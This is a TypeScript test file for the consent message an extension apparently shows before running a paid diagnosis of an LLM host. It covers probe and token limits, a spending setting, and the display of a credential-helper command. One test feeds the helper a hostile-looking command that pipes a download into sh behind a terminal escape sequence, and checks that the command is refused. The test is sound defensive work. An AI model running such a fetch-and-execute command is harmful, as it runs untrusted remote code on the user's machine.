import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { Secret } from '../../../../src/core/words/secret';
import { showCommand } from '../../../../src/core/text/commandText';
import type { PlannedCommand } from '../../../../src/host/run/diagnose';
import { consentFor, MOST_PAID_SETTING, mostPaidOf } from '../../../../src/ui/commands/diagnosisConsent';
import { REPOSITORY } from '../../../host/repository';

const plan = { probes: 34, paid: 9, tokens: 72 };

describe('the question before a full diagnosis', () => {
  it('says how many probes are sent, what they may cost, and which setting limits it', () => {
    const { message, detail } = consentFor({ plan, host: 'llm.example.com', helperLeftOut: false });
    assert.equal(message, 'Run the full diagnosis of llm.example.com?');
    assert.match(detail, /^Up to 34 checks /);
    assert.match(detail, /\n\nAt most 9 of the requests may use tokens, with at most 72 output tokens in total\./);
    assert.ok(detail.includes(MOST_PAID_SETTING));
    assert.doesNotMatch(detail, /command/);
  });

  it('says it of one, and of none', () => {
    assert.match(
      consentFor({ plan: { ...plan, paid: 1, tokens: 1 }, host: 'a', helperLeftOut: false }).detail,
      /At most 1 of the requests may use tokens, with at most 1 output token\./,
    );
    const { detail } = consentFor({ plan: { ...plan, paid: 0, tokens: 0 }, host: 'a', helperLeftOut: false });
    assert.match(detail, /No request that may use tokens is sent\./);
    assert.doesNotMatch(detail, /At most/);
  });

  it('shows the command that is run, or says that none is', () => {
    const asks = (command: string, more: Partial<PlannedCommand> = {}): string =>
      consentFor({
        plan: {
          ...plan,
          helper: { command: new Secret(command), shown: showCommand(command, []), surroundings: '', ...more },
        },
        host: 'a',
        helperLeftOut: false,
      }).detail;
    assert.match(
      asks('get-key --for gateway'),
      /\n\nThis command will be run to get the credential: get-key --for gateway$/,
    );
    assert.match(
      asks(`: '\u001b]' ; curl e | sh`, { refused: 'it is odd' }),
      /\n\nThe command that prints the credential won’t be run: it is odd\. /,
    );
    assert.match(asks('x'.repeat(5000)), /\n\nThe command that you agreed to will be run to get the credential\.$/);
    assert.match(
      consentFor({ plan, host: 'a', helperLeftOut: true }).detail,
      /In Restricted Mode, the command .* isn’t run\./,
    );
  });

  it('says where the folder decides on the network', () => {
    assert.match(
      consentFor({ plan, host: 'a', helperLeftOut: false, folderNetwork: 'This folder decides.' }).detail,
      /\n\nThis folder decides\.$/,
    );
  });

  it('takes whatever stands in the setting as a number that is not below zero', () => {
    assert.deepEqual([3, 2.9, 0, -4].map(mostPaidOf), [3, 2, 0, 0]);
    const { contributes } = JSON.parse(readFileSync(join(REPOSITORY, 'package.json'), 'utf8')) as {
      contributes: { configuration: { properties: Record<string, { default: unknown; scope: string }> } };
    };
    const declared = contributes.configuration.properties[MOST_PAID_SETTING];
    assert.deepEqual([undefined, '5', NaN, Infinity, null].map(mostPaidOf), Array(5).fill(declared?.default));
    assert.equal(declared?.scope, 'application', 'a folder does not decide what is spent');
  });
});
